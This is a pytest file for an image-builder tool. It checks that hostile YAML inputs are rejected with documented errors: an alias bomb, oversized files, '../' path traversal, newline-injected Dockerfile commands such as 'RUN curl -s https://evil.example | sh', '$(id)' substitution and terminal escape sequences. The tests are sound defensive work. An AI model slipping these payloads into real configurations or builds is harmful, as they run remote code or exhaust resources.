"""Hostile input files and names (#20 item 6), each as the attack with the refusal it must get:
a YAML alias bomb and endless or oversized files for every YAML kind (matrix, policy, fleet),
``../`` in a policy's repositories and registries. Every refusal is a documented exit code with
the file named, never a traceback or unbounded memory."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from builder.config import registry_problem, repository_problem
from builder.yamldoc import MAX_BYTES, InvalidYaml, expanded_size, parse

if TYPE_CHECKING:
    from tests.conftest import Cli

ROOT = Path(__file__).resolve().parents[2]


def alias_bomb(levels: int = 9) -> str:
    """The "billion laughs" shape in YAML: each level lists the previous one nine times."""
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        ref = f"*a{i - 1}"
        lines.append(f"a{i}: &a{i} [{', '.join([ref] * 9)}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_is_refused_before_it_is_expanded() -> None:
    text = alias_bomb()
    assert len(text) < 1000  # a few hundred bytes ...
    with pytest.raises(InvalidYaml, match="alias bomb"):
        parse(text, "bomb.yaml")  # ... that would expand to 9**9 nodes


def test_ordinary_anchors_and_merge_keys_still_work() -> None:
    doc = parse("base: &b {x: 1, y: [1, 2]}\nuse: *b\nmerged: {<<: *b, z: 3}\n", "ok.yaml")
    assert doc.plain() == {
        "base": {"x": 1, "y": [1, 2]},
        "use": {"x": 1, "y": [1, 2]},
        "merged": {"z": 3, "x": 1, "y": [1, 2]},
    }
    assert expanded_size(doc.root) is not None


def test_oversized_and_deep_texts_are_refused() -> None:
    with pytest.raises(InvalidYaml, match="MiB limit"):
        parse("a: b\n" * (MAX_BYTES // 5 + 1), "big.yaml")
    with pytest.raises(InvalidYaml):
        parse("[" * 20000 + "]" * 20000, "deep.yaml")


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (("matrix", "list", "--matrix", "{f}"), 10),
        (("policy", "validate", "{f}"), 30),
        (("compat", "fleet", "{f}", "--cuda", "12.8"), 2),
    ],
)
def test_every_yaml_kind_refuses_a_bomb_and_an_endless_file(
    cli: Cli, tmp_path: Path, args: tuple[str, ...], code: int
) -> None:
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(alias_bomb())
    out = cli(*[a.replace("{f}", str(bomb)) for a in args], code=code, cwd=ROOT)
    assert "bomb.yaml" in out.stderr and "Traceback" not in out.stderr
    endless = cli(*[a.replace("{f}", "/dev/zero") for a in args], code=None, cwd=ROOT)
    assert endless.code in (2, code) and "MiB limit" in endless.stderr and "Traceback" not in endless.stderr


def _policy_with(tmp_path: Path, old: str, new: str) -> Path:
    text = (ROOT / "policies" / "default.yaml").read_text()
    assert old in text
    path = tmp_path / "policy.yaml"
    path.write_text(text.replace(old, new))
    return path


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ('repository: "prod/{repository}"', 'repository: "../{repository}"', "repository"),
        ('repository: "prod/{repository}"', 'repository: "prod/../../etc/{repository}"', "repository"),
        ('repository: "prod/{repository}"', 'repository: "prod/{repository}"\n    registry: "../evil"', "registry"),
        ('repository: "prod/{repository}"', 'repository: "prod/{repository}"\n    registry: "a..b:5000"', "registry"),
    ],
)
def test_policy_refuses_path_traversal_in_repositories_and_registries(
    cli: Cli, tmp_path: Path, old: str, new: str, field: str
) -> None:
    path = _policy_with(tmp_path, old, new)
    out = cli("policy", "validate", str(path), "--json", code=30, cwd=ROOT)
    problems = out.json()["error"]["details"]["files"][0]["problems"]
    assert any(p["path"].endswith(f"prod.{field}") and p["severity"] == "error" for p in problems), problems


def test_registry_and_repository_grammar() -> None:
    assert registry_problem("127.0.0.1:5000") is None and registry_problem("[::1]:5000") is None
    assert registry_problem("registry.example.com") is None
    for bad in ("..", "../x", "a..b", ".a", "a.", "a/b", "a b"):
        assert registry_problem(bad) is not None, bad
    assert repository_problem("prod/ml/jax") is None
    for bad in ("../x", "a/../b", "a//b", "/a", "A", "a/./b", "x" * 256):
        assert repository_problem(bad) is not None, bad


def _matrix_with(tmp_path: Path, old: str, new: str) -> Path:
    text = (ROOT / "matrices" / "demo.yaml").read_text()
    assert old in text
    path = tmp_path / "matrix.yaml"
    path.write_text(text.replace(old, new))
    return path


BASE = 'default: "mirror:debian:bookworm"'
PACKAGES = 'cpu: ["jax=={framework_version}.*"]'


@pytest.mark.parametrize(
    ("old", "new", "field", "words"),
    [
        # a newline starts a new Dockerfile instruction
        (BASE, 'default: "debian:12\\nRUN curl -s https://evil.example | sh"', "base.default", "control character"),
        (BASE, 'default: "debian:12 AS x\\rRUN id"', "base.default", "control character"),
        (BASE, 'default: "debian:12 # RUN id"', "base.default", "not an image reference"),
        (PACKAGES, 'cpu: ["jax\\nRUN id"]', "packages.cpu[0]", "control character"),
        (PACKAGES, 'cpu: ["jax\\u001b]0;pwned\\u0007"]', "packages.cpu[0]", "control character"),
        (BASE, BASE + '\nbuild_args: {X: "1\\"\\nRUN id #"}', "build_args.X", "control character"),
        (BASE, BASE + '\nbuild_args: {X: "$(id)"}', "build_args.X", 'inside "..."'),
        (BASE, BASE + '\nbuild_args: {"X=1 RUN": "1"}', "build_args.X=1 RUN", "not an ARG name"),
        # secrets: refused with the BuildKit-secret hint
        (BASE, BASE + '\nbuild_args: {API_TOKEN: "abc"}', "build_args.API_TOKEN", "BuildKit secret"),
        (BASE, BASE + '\nbuild_args: {pip_password: "abc"}', "build_args.pip_password", "BuildKit secret"),
        (BASE, BASE + '\nbuild_args: {HF_AUTH: "abc"}', "build_args.HF_AUTH", "BuildKit secret"),
    ],
)
def test_matrix_strings_that_reach_the_dockerfile_are_validated(
    cli: Cli, tmp_path: Path, old: str, new: str, field: str, words: str
) -> None:
    path = _matrix_with(tmp_path, old, new)
    out = cli("matrix", "list", "--matrix", str(path), "--json", code=10, cwd=ROOT)
    problems = out.json()["error"]["details"]["problems"]
    assert any(p["path"] == field and words in p["message"] for p in problems), problems
    assert "\n" not in "".join(p["message"] for p in problems)  # shown escaped, on one line


def test_ordinary_build_args_pass(cli: Cli, tmp_path: Path) -> None:
    path = _matrix_with(tmp_path, BASE, BASE + '\nbuild_args: {TORCH_CUDA_ARCH_LIST: "8.0;9.0", MAX_JOBS: "8"}')
    cli("matrix", "list", "--matrix", str(path), "--json", cwd=ROOT)


def test_terminal_escapes_in_input_never_reach_the_terminal(cli: Cli, tmp_path: Path) -> None:
    """The attack: a fleet whose cluster name and description carry escape sequences (colour,
    window title, clear screen); every human line builder prints shows them escaped."""
    text = (ROOT / "fleets" / "demo.yaml").read_text()
    evil = "h100-\x1b[2J\x1b]0;pwned\x07train"
    fleet = tmp_path / "fleet.yaml"
    fleet.write_text(text.replace("name: h100-train", f'name: "{evil.encode("unicode_escape").decode()}"'))
    out = cli("compat", "fleet", str(fleet), "--cuda", "12.8", code=None, cwd=ROOT, env={"FORCE_COLOR": "1"})
    assert "\x1b[2J" not in out.stderr and "\x1b]0;" not in out.stderr, out.stderr
    assert "\\x1b[2J" in out.stderr or "h100-" in out.stderr
